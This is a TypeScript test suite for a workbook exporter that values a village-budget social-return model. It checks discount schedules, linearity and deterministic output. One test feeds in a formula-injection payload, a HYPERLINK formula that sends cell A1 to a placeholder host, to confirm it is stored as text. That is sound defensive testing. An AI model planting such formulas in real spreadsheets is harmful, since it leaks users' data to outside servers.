import { describe, expect, it, vi } from 'vitest';
import ExcelJS from 'exceljs';
import { loadModelFile } from '../../src/data/model-file.js';
import { writeWorkbookXlsx } from '../../src/data/xlsx-write.js';
import { valueMapWorkbook } from '../../src/core/svuk-workbook.js';
import { valueModel } from '../../src/core/value-model.js';
import { validateModel } from '../../src/core/validate-model.js';
import type { Model } from '../../src/core/schema/model.js';
import { FormulaWorkbook } from './formula-evaluator.js';

const rel = (a: number, b: number): number => Math.abs(a - b) / Math.max(1, Math.abs(b));

async function dorpsbudget(change: (raw: any) => void): Promise<Model> {
  const loaded = await loadModelFile('models/dorpsbudget-stompwijk.yaml');
  if (!loaded.ok) throw new Error('model invalid');
  const raw = structuredClone(loaded.model) as any;
  change(raw);
  const v = validateModel(raw);
  if (!v.ok) throw new Error(JSON.stringify(v.issues));
  return v.model;
}

describe('valueMapWorkbook + writeWorkbookXlsx', () => {
  it('chains a declining discount schedule and the t − 1 convention in formulas (Green Book, METHODS §3)', async () => {
    // 40 years under the Green Book schedule: 3.5 % to year 30, then 3 %; year 1 not discounted (t − 1 periods).
    const model = await dorpsbudget((raw) => {
      raw.valuation.discount = { preset: 'uk-green-book' };
      raw.valuation.horizonYears = 40;
      raw.valuation.discountFirstYear = false;
      for (const o of raw.outcomes) o.duration = 40;
    });
    const plan = valueMapWorkbook(model, {}, 'en');
    const wb = await FormulaWorkbook.fromBuffer(await writeWorkbookXlsx(plan));
    const v = valueModel(model);
    expect(rel(wb.valueOf(plan.cells.presentValueBenefits) as number, v.valuation.presentValueBenefits)).toBeLessThan(1e-9);
    expect(rel(wb.valueOf(plan.cells.sroiRatio) as number, v.valuation.sroiRatio!)).toBeLessThan(1e-9);
    expect(rel(wb.valueOf(plan.cells.mkbaBalance!) as number, v.mkba!.balance)).toBeLessThan(1e-9);
    // Hand: DF(31) = DF(30) / 1.03 with DF(30) = 1.035^−30 (METHODS §3: the schedule chains, it does not restart).
    expect(rel(wb.value('Discounting', 'C33') as number, 1.035 ** -30 / 1.03)).toBeLessThan(1e-12);
    // Setting the 3 % step to 3.5 % makes the schedule flat: DF(39) = 1.035^−39.
    wb.set('Settings', 'B11', 0.035);
    expect(wb.value('Settings', 'A11')).toBe('Discount rate from year 31');
    expect(rel(wb.value('Discounting', 'C41') as number, 1.035 ** -39)).toBeLessThan(1e-12);
  });

  it('doubles the present value when every proxy cell doubles (METHODS §1: PV is linear in P)', async () => {
    const model = await dorpsbudget(() => {});
    const plan = valueMapWorkbook(model, {}, 'nl');
    const wb = await FormulaWorkbook.fromBuffer(await writeWorkbookXlsx(plan));
    const before = wb.valueOf(plan.cells.presentValueBenefits) as number;
    for (const row of [2, 3]) wb.set('Uitkomsten', `E${row}`, 2 * (wb.value('Uitkomsten', `E${row}`) as number));
    expect(rel(wb.valueOf(plan.cells.presentValueBenefits) as number, 2 * before)).toBeLessThan(1e-12);
  });

  it('writes text from the model as text, never as a formula (formula injection)', async () => {
    const evil = '=HYPERLINK("http://example.invalid/?"&A1,"klik")';
    const model = await dorpsbudget((raw) => {
      raw.outcomes[0].description = evil;
      raw.outcomes[0].deadweight.reason = '@SUM(1+1)';
    });
    const bytes = await writeWorkbookXlsx(valueMapWorkbook(model, {}, 'en'));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const cell = wb.getWorksheet('Outcomes')!.getCell('C2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(evil);
    expect(wb.getWorksheet('Outcomes')!.getCell('T2').type).toBe(ExcelJS.ValueType.String);
  });
  it('gives the same bytes for the same model, whatever the clock says (no wall-clock in results)', async () => {
    const model = await dorpsbudget(() => {});
    const plan = valueMapWorkbook(model, {}, 'nl');
    vi.useFakeTimers({ toFake: ['Date'] });
    try {
      vi.setSystemTime(new Date('2021-03-04T05:06:07Z'));
      const a = await writeWorkbookXlsx(plan);
      vi.setSystemTime(new Date('2029-11-12T13:14:15Z'));
      const b = await writeWorkbookXlsx(plan);
      expect(a.equals(b)).toBe(true);
    } finally {
      vi.useRealTimers();
    }
  });
});
